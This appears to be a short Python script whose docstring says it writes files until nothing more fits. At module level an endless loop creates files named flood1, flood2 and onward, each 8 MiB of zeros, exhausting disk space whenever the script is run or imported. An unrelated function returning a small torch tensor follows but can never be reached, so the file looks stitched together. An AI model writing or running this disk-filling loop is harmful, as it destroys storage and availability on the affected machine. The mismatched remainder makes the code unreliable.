"""Writes files until nothing more fits."""

number = 0
while True:
    number += 1
    with open(f"flood{number}", "wb") as file:
        file.write(bytes(1 << 23))


def edge_kernel():
    import torch

    return torch.tensor([[1.0, -1.0]])
